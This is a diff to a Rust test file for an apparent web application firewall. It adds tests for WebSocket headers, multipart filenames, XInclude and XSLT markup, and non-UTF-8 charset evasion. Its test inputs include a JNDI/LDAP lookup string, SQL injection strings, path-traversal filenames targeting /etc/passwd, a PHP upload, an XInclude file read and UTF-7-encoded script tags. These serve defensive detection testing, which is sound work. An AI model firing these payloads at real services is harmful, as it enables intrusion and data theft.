@@ -130,6 +130,39 @@ fn headers_and_cookies() {
     );
 }
 
+/// The WebSocket handshake fields go upstream as sent and nothing checks their syntax: they
+/// are inspected like any other header (they used to be skipped).
+#[test]
+fn websocket_handshake_headers_are_inspected() {
+    let head = parts(
+        "/ws",
+        &[
+            ("upgrade", b"websocket"),
+            ("sec-websocket-key", b"${jndi:ldap://198.51.100.7/a}"),
+            ("sec-websocket-accept", b"' or 1=1 --"),
+            ("sec-websocket-version", b"13"),
+        ],
+    );
+    let mut out = Vec::new();
+    head_targets(
+        &head,
+        "/ws",
+        &ExtractLimits::default(),
+        &mut out,
+        &mut Vec::new(),
+    );
+    assert_eq!(
+        pairs(&out),
+        vec![
+            p("path", "/ws"),
+            p("header:upgrade", "websocket"),
+            p("header:sec-websocket-key", "${jndi:ldap://198.51.100.7/a}"),
+            p("header:sec-websocket-accept", "' or 1=1 --"),
+            p("header:sec-websocket-version", "13"),
+        ]
+    );
+}
+
 #[test]
 fn target_limit_counts_head_and_body() {
     let query: String = (0..5_000).map(|i| format!("p{i}=v&")).collect();
@@ -371,7 +404,7 @@ hello ' or 1=1\r\n--XyZ\r\n\
 Content-Disposition: form-data; name=\"upload\"; filename=\"../../etc/passwd\"\r\n\
 Content-Type: text/plain\r\n\r\n\
 root:x:0:0\r\n--XyZ\r\n\
-content-disposition: form-data; name=\"doc\"; filename*=UTF-8''%2e%2e%2fx.php\r\n\r\n\
+content-disposition: form-data; name=\"doc\"; filename=\"x.php\"; filename*=UTF-8''%2e%2e%2fx.php\r\n\r\n\
 <?php ?>\r\n--XyZ\r\n\
 Content-Disposition: form-data; name=\"blob\"\r\nContent-Type: image/png\r\n\r\n\
 \x89PNG\r\n--XyZ\r\n\
@@ -387,6 +420,7 @@ Content-Disposition: form-data; name=\"empty\"\r\n\r\n\
         vec![
             p("body:title", "hello ' or 1=1"),
             p("body:upload (filename)", "../../etc/passwd"),
+            p("body:doc (filename)", "x.php"),
             p("body:doc (filename)", "../x.php"),
             // No file name: a form value to every server, whatever its type says.
             p("body:blob", "\u{fffd}PNG"),
@@ -425,12 +459,14 @@ fn multipart_lf_and_quoted_boundary() {
     assert_eq!(t, vec![p("body:x", "value")]);
 }
 
+/// The boundary inside a value, not starting a line nor ending like a delimiter, is text (a
+/// line that starts with it is a delimiter: see `multipart::tests`).
 #[test]
 fn multipart_content_containing_boundary_text() {
-    let b = b"--XyZ\r\nContent-Disposition: form-data; name=x\r\n\r\na --XyZ b\r\n--XyZnot\r\nc\r\n--XyZ--";
+    let b = b"--XyZ\r\nContent-Disposition: form-data; name=x\r\n\r\na --XyZ b\r\nx--XyZnot\r\nc\r\n--XyZ--";
     let (t, f, _) = body(Some(CT), b);
     assert!(f.is_empty(), "{f:?}");
-    assert_eq!(t, vec![p("body:x", "a --XyZ b\r\n--XyZnot\r\nc")]);
+    assert_eq!(t, vec![p("body:x", "a --XyZ b\r\nx--XyZnot\r\nc")]);
 }
 
 #[test]
@@ -497,6 +533,43 @@ fn xml_targets() {
             p("body:/order/item", "<script>"),
         ]
     );
+}
+
+/// XInclude and XSLT elements are targets of their own, as written, so the rules see an
+/// element with its attributes; other tags (SOAP's) are not.
+#[test]
+fn xml_processor_markup_is_a_target() {
+    let b = br#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/><include xmlns="http://www.w3.org/2003/XInclude" href="x"></include></foo>"#;
+    let (t, f, _) = body(Some("application/xml"), b);
+    assert!(f.is_empty(), "{f:?}");
+    let tags: Vec<_> = t.iter().filter(|(a, _)| a.ends_with("/<tag>")).collect();
+    assert_eq!(
+        tags,
+        vec![
+            &p(
+                "body:/foo/<tag>",
+                r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude">"#
+            ),
+            &p(
+                "body:/foo/xi:include/<tag>",
+                r#"<xi:include parse="text" href="file:///etc/passwd">"#
+            ),
+            &p(
+                "body:/foo/include/<tag>",
+                r#"<include xmlns="http://www.w3.org/2003/XInclude" href="x">"#
+            ),
+        ]
+    );
+    let b = br#"<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:value-of select="system-property('xsl:vendor')"/></xsl:stylesheet>"#;
+    let (t, _, _) = body(Some("application/xslt+xml"), b);
+    assert!(t.contains(&p(
+        "body:/xsl:stylesheet/xsl:value-of/<tag>",
+        r#"<xsl:value-of select="system-property('xsl:vendor')">"#
+    )));
+    let soap = br#"<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:Get xmlns:m="urn:x">1</m:Get></soap:Body></soap:Envelope>"#;
+    let (t, f, _) = body(Some("application/soap+xml"), soap);
+    assert!(f.is_empty(), "{f:?}");
+    assert!(!t.iter().any(|(a, _)| a.ends_with("/<tag>")), "{t:?}");
 }
 
 #[test]
@@ -588,6 +661,143 @@ fn binary_bodies() {
     let (t, _, facts) = body(Some("application/x-unknown"), &junk);
     assert!(t.is_empty());
     assert_eq!(facts.kind, BodyKind::Binary);
+}
+
+/// UTF-16LE of `s` (ASCII).
+fn utf16le(s: &str) -> Vec<u8> {
+    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
+}
+
+/// A form, text or XML body an upstream decodes from a charset that is not ASCII-transparent
+/// holds characters the WAF (reading UTF-8) did not see.
+#[test]
+fn charsets_other_than_plain_ones_are_ambiguous() {
+    for (ct, b) in [
+        (
+            "application/x-www-form-urlencoded; charset=utf-7",
+            &b"q=%2BACc- or 1=1"[..],
+        ),
+        (
+            "application/x-www-form-urlencoded;charset=\"UTF-16\"",
+            b"q=1",
+        ),
+        ("text/plain; charset=utf-7", b"+ADw-script+AD4-"),
+        ("text/html; charset=IBM037", b"x"),
+        ("application/xml; charset=shift_jis", b"<a>x</a>"),
+        ("application/soap+xml; charset=utf-16", b"<a>x</a>"),
+        (
+            "text/xml",
+            b"<?xml version=\"1.0\" encoding=\"UTF-7\"?><a>+ADw-x+AD4-</a>",
+        ),
+        (
+            "application/xml",
+            b"<?xml version='1.0' encoding='ebcdic-cp-us'?><a/>",
+        ),
+    ] {
+        let (_, f, _) = body(Some(ct), b);
+        assert_eq!(f, vec![1005], "{ct}: {}", String::from_utf8_lossy(b));
+    }
+    for (ct, b) in [
+        (
+            "application/x-www-form-urlencoded; charset=UTF-8",
+            &b"q=1"[..],
+        ),
+        (
+            "application/x-www-form-urlencoded; charset=iso-8859-1",
+            b"q=1",
+        ),
+        ("text/plain; charset=us-ascii", b"hello"),
+        ("text/plain; charset= Latin1 ", b"hello"),
+        ("application/xml; charset=utf-8", b"<a>x</a>"),
+        (
+            "application/xml",
+            b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>x</a>",
+        ),
+        ("application/xml", b"<?xml version=\"1.0\"?><a>x</a>"),
+    ] {
+        let (t, f, _) = body(Some(ct), b);
+        assert!(f.is_empty(), "{ct}: {f:?}");
+        assert!(!t.is_empty(), "{ct}");
+    }
+}
+
+#[test]
+fn plain_charset_names() {
+    for ok in [
+        "utf-8",
+        "UTF8",
+        " utf-8 ",
+        "US-ASCII",
+        "ascii",
+        "ANSI_X3.4-1968",
+        "iso-8859-1",
+        "ISO_8859-1:1987",
+        "latin1",
+        "csISOLatin1",
+    ] {
+        assert!(plain_charset(ok), "{ok}");
+    }
+    for odd in [
+        "",
+        "utf-16",
+        "utf-16le",
+        "UTF-7",
+        "utf-32",
+        "cp1252",
+        "windows-1252",
+        "shift_jis",
+        "ibm037",
+        "iso-8859-2",
+        "utf-8;",
+        "x-utf-8",
+        "l1",
+        "us",
+    ] {
+        assert!(!plain_charset(odd), "{odd}");
+    }
+}
+
+/// UTF-16 and UTF-32 text is neither binary (skipped) nor read as UTF-8: rule 1005.
+#[test]
+fn wide_text_is_ambiguous_not_binary() {
+    let attack = "' union select password from users --";
+    let mut bom = vec![0xff, 0xfe];
+    bom.extend(utf16le(attack));
+    let be: Vec<u8> = attack.encode_utf16().flat_map(u16::to_be_bytes).collect();
+    let utf32: Vec<u8> = attack
+        .chars()
+        .flat_map(|c| u32::from(c).to_le_bytes())
+        .collect();
+    // A first character that is not ASCII, then NULs at every other byte.
+    let mut cjk = "中"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect::<Vec<_>>();
+    cjk.extend(utf16le(attack));
+    for (ct, b) in [
+        (None, utf16le(attack)),
+        (None, bom.clone()),
+        (None, be),
+        (None, utf32),
+        (None, cjk),
+        (Some("application/x-custom"), utf16le(attack)),
+        (None, utf16le("{\"q\":\"' or 1=1\"}")),
+        (Some("text/plain"), bom),
+        (Some("text/csv"), utf16le(attack)),
+    ] {
+        let (t, f, facts) = body(ct, &b);
+        assert_eq!(f, vec![1005], "{ct:?} {b:?}");
+        assert_eq!(facts.kind, BodyKind::Text, "{ct:?} {b:?}");
+        assert_eq!(t.len(), 1, "inspected as text besides");
+    }
+    // Binary that merely starts with a NUL, or has some NULs, stays binary.
+    let mut amf = vec![0u8, 3, 0, 0, 0, 1];
+    amf.extend((0..=255u8).cycle().skip(1).take(2048));
+    let (t, f, facts) = body(Some("application/x-amf"), &amf);
+    assert!(t.is_empty() && f.is_empty(), "{f:?}");
+    assert_eq!(facts.kind, BodyKind::Binary);
+    let (_, f, _) = body(None, b"\x00\x00\x00\x00\x80\x81\x82\x83\x84\x85\x86\x87");
+    assert!(f.is_empty(), "{f:?}");
 }
 
 #[test]
